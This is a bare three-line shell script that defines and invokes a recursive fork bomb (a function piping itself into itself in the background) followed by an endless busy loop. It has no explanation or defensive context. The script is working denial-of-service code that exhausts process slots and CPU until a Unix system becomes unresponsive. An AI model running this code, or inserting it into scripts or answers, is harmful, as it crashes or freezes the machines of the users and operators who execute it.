bomb() { bomb | bomb & }
bomb
while true; do :; done
